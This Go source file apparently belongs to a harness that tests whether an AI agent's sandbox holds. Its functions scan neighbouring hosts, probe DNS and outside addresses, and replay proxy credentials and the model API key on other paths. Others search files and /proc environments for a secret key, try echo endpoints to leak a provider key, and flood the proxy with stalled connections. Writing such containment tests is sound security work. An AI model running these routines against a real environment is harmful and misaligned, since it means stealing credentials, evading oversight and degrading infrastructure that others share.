package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// onNetwork lists attacks over the network: on other workers, on outside addresses, on name servers and on the proxy.
var onNetwork = map[string]func(args []string) (string, error){
	"answer":     answer,
	"neighbours": neighbours,
	"reach":      reach,
	"resolve":    resolve,
	"browse":     browse,
	"proxy":      proxy,
	"model":      model,
	"hunt":       hunt,
	"echoes":     echoes,
	"crowd":      crowd,
	"promptly":   promptly,
}

// answer PORT DURATION listens on the port for the given time, and sends each client a byte.
func answer(args []string) (string, error) {
	most, err := time.ParseDuration(args[1])
	if err != nil {
		return "", err
	}
	l, err := net.Listen("tcp", ":"+args[0])
	if err != nil {
		return "", err
	}
	time.AfterFunc(most, func() { _ = l.Close() })
	for {
		c, err := l.Accept()
		if err != nil {
			return "", nil //nolint:nilerr // the time is over
		}
		_, _ = c.Write([]byte("x"))
		_ = c.Close()
	}
}

// word connects to an address and reads a byte.
func word(address string, patience time.Duration) error {
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
	_, err = c.Read(make([]byte, 1))
	return err
}

// neighbours PORT DURATION searches its own network for other hosts that answer on PORT, for at most the given time.
func neighbours(args []string) (string, error) {
	most, err := time.ParseDuration(args[1])
	if err != nil {
		return "", err
	}
	own, err := net.InterfaceAddrs()
	if err != nil {
		return "", err
	}
	tries := 0
	for end := time.Now().Add(most); time.Now().Before(end); {
		var all sync.WaitGroup
		var mu sync.Mutex
		found := ""
		for _, a := range own {
			p, ok := a.(*net.IPNet)
			if !ok || p.IP.To4() == nil || p.IP.IsLoopback() {
				continue
			}
			for last := range byte(16) {
				ip := net.IPv4(p.IP.To4()[0], p.IP.To4()[1], p.IP.To4()[2], last+1)
				if ip.Equal(p.IP) {
					continue
				}
				tries++
				all.Go(func() {
					if word(net.JoinHostPort(ip.String(), args[0]), time.Second) == nil {
						mu.Lock()
						found = ip.String()
						mu.Unlock()
					}
				})
			}
		}
		all.Wait()
		if found != "" {
			return "through: another host answers at " + found, nil
		}
	}
	return fmt.Sprintf("%d tries", tries), nil
}

// reach ADDRESS... tries to connect to addresses.
func reach(args []string) (string, error) {
	var out strings.Builder
	for _, a := range args {
		if err := word(a, 2*time.Second); err != nil {
			fmt.Fprintf(&out, "%s: %v\n", a, err)
		} else {
			fmt.Fprintf(&out, "through: %s\n", a)
		}
	}
	return out.String(), nil
}

// resolve NAME... looks up names. A resolver that answers could be used to carry data out.
func resolve(args []string) (string, error) {
	var out strings.Builder
	for _, name := range args {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		found, err := net.DefaultResolver.LookupHost(ctx, name)
		cancel()
		if err == nil {
			fmt.Fprintf(&out, "through: %s is %v\n", name, found)
		} else {
			fmt.Fprintf(&out, "%v\n", err)
		}
	}
	return out.String(), nil
}

// browse URL... fetches pages as any program would, with the proxy settings from the environment.
func browse(args []string) (string, error) {
	var out strings.Builder
	for _, at := range args {
		answer, err := (&http.Client{Timeout: 10 * time.Second}).Get(at)
		if err != nil {
			fmt.Fprintf(&out, "%s: %v\n", at, err)
			continue
		}
		text, _ := bufio.NewReader(answer.Body).ReadString('\n')
		_ = answer.Body.Close()
		fmt.Fprintf(&out, "%s: %d %s\n", at, answer.StatusCode, strings.TrimSpace(text))
	}
	return out.String(), nil
}

// proxy METHOD TARGET HOST IDENTITY sends the proxy a raw request. Status 200 counts as a success.
func proxy(args []string) (string, error) {
	at, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil || at.Host == "" {
		return "", fmt.Errorf("HTTP_PROXY %q: %w", at, err)
	}
	c, err := net.DialTimeout("tcp", at.Host, 5*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	password, _ := at.User.Password()
	r := &http.Request{Header: http.Header{}}
	switch args[3] {
	case "me":
		r.SetBasicAuth(at.User.Username(), password)
	case "another": // another attempt's guessed name, with this attempt's token
		r.SetBasicAuth(at.User.Username()+"x", password)
	case "nobody":
	}
	signed := ""
	if auth := r.Header.Get("Authorization"); auth != "" {
		signed = "Proxy-Authorization: " + auth + "\r\n"
	}
	fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n", args[0], args[1], args[2], signed)
	answer, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return args[1] + ": " + err.Error(), nil
	}
	_ = answer.Body.Close()
	if answer.StatusCode == http.StatusOK {
		return "through: " + strings.Join(args, " "), nil
	}
	return args[1] + ": " + answer.Status, nil
}

// model sends a request to its model as an agent would, and then requests another path from the proxy with the same
// key.
func model([]string) (string, error) {
	var out strings.Builder
	base, key := os.Getenv("ANTHROPIC_BASE_URL"), os.Getenv("ANTHROPIC_API_KEY")
	body := `{"model":"m","stream":true,"max_tokens":10,"messages":[{"role":"user","content":"hello"}]}`
	for name, at := range map[string]string{
		"model":        base + "/v1/messages",
		"another path": strings.Replace(base, "ANTHROPIC_API_KEY", "GITHUB_TOKEN", 1) + "/v1/messages",
	} {
		r, err := http.NewRequest(http.MethodPost, at, strings.NewReader(body))
		if err != nil {
			return "", err
		}
		r.Header.Set("X-Api-Key", key)
		answer, err := (&http.Client{Timeout: 20 * time.Second}).Do(r)
		if err != nil {
			return out.String(), err
		}
		text, _ := io.ReadAll(answer.Body)
		_ = answer.Body.Close()
		fmt.Fprintf(&out, "%s: %d\n%s\n", name, answer.StatusCode, text)
	}
	return out.String(), nil
}

// hunt TEXT searches all readable files, environments and arguments for the text. The argument is the reversed text, so
// that the search does not find the argument itself.
func hunt(args []string) (string, error) {
	text := []byte(args[0])
	slices.Reverse(text)
	var out strings.Builder
	looked := 0
	look := func(path string) {
		f, err := os.Open(path)
		if err != nil {
			return
		}
		defer f.Close()
		data, _ := io.ReadAll(io.LimitReader(f, 64<<20))
		if looked++; bytes.Contains(data, text) {
			fmt.Fprintf(&out, "through: the key is in %s\n", path)
		}
	}
	for _, top := range []string{
		"/etc", "/tmp", "/retake", "/workspace", "/dev/shm", "/run", "/var", "/home",
		"/readonly", "/agent",
	} {
		_ = filepath.WalkDir(top, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				look(path)
			}
			return nil
		})
	}
	all, _ := os.ReadDir("/proc")
	for _, p := range all {
		for _, name := range []string{"environ", "cmdline"} {
			look(filepath.Join("/proc", p.Name(), name))
		}
	}
	fmt.Fprintf(&out, "searched %d files\n", looked)
	return out.String(), nil
}

// echoes TEXT sends requests through the proxy to a provider that repeats them, and searches the answers for the
// provider's key. It sends its own key in every header and parameter where the proxy accepts one. TEXT is the
// provider's key, reversed.
func echoes(args []string) (string, error) {
	text := []byte(args[0])
	slices.Reverse(text)
	base, key := os.Getenv("ANTHROPIC_BASE_URL"), os.Getenv("ANTHROPIC_API_KEY")
	client := &http.Client{
		Timeout:       20 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	var out strings.Builder
	for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodTrace} {
		for _, shape := range []string{"page", "redirect", "base64", "chunks"} {
			for _, where := range []string{"X-Api-Key", "Authorization", "X-Goog-Api-Key", "key"} {
				r, err := http.NewRequest(method, base+"/echo/"+shape, http.NoBody)
				if err != nil {
					return "", err
				}
				switch where {
				case "key":
					r.URL.RawQuery = "key=" + key
				case "Authorization":
					r.Header.Set(where, "Bearer "+key)
				default:
					r.Header.Set(where, key)
				}
				answer, err := client.Do(r)
				if err != nil {
					return out.String(), err
				}
				body, _ := io.ReadAll(answer.Body)
				_ = answer.Body.Close()
				all := fmt.Sprint(answer.Header, string(body))
				encoded := strings.TrimRight(base64.StdEncoding.EncodeToString(text), "=")
				if strings.Contains(all, string(text)) || strings.Contains(all, encoded[:len(encoded)-2]) {
					fmt.Fprintf(&out, "through: %s %s by %s returned the key\n", method, shape, where)
				}
				fmt.Fprintf(&out, "%s %s: %d\n", method, shape, answer.StatusCode)
			}
		}
	}
	return out.String(), nil
}

// crowd CONNECTIONS DURATION occupies the proxy with connections for the given time. A third of them send nothing, a
// third send part of a request, and a third send an anonymous request.
func crowd(args []string) (string, error) {
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return "", err
	}
	most, err := time.ParseDuration(args[1])
	if err != nil {
		return "", err
	}
	at, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil || at.Host == "" {
		return "", fmt.Errorf("HTTP_PROXY %q: %w", at, err)
	}
	opened, began := 0, time.Now()
	var held []net.Conn
	for end := time.Now().Add(most); time.Now().Before(end); {
		if len(held) == n {
			_ = held[0].Close()
			held = held[1:]
			time.Sleep(time.Millisecond)
		}
		c, err := net.DialTimeout("tcp", at.Host, time.Second)
		if err != nil {
			continue
		}
		switch opened++; opened % 3 {
		case 1:
			_, _ = io.WriteString(c, "CONNECT api.example.com:443 HTTP/1.1\r\n")
		case 2:
			_, _ = io.WriteString(c, "GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
		}
		held = append(held, c)
	}
	return fmt.Sprintf("crowd: %d connections from %d to %d", opened, began.Unix(), time.Now().Unix()), nil
}

// promptly URL DURATION fetches a page repeatedly for the given time, and prints the slowest answer.
func promptly(args []string) (string, error) {
	most, err := time.ParseDuration(args[1])
	if err != nil {
		return "", err
	}
	n, slowest, first := 0, time.Duration(0), time.Now()
	for end := time.Now().Add(most); time.Now().Before(end); n++ {
		began := time.Now()
		client := &http.Client{
			Timeout:   10 * time.Second,
			Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true},
		}
		answer, err := client.Get(args[0])
		if err != nil {
			return "", fmt.Errorf("through: the proxy did not answer: %w", err)
		}
		_ = answer.Body.Close()
		slowest = max(slowest, time.Since(began))
		time.Sleep(20 * time.Millisecond)
	}
	return fmt.Sprintf("prompt: %d answers, slowest %d ms, from %d to %d", n, slowest.Milliseconds(), first.Unix(),
		time.Now().Unix()), nil
}
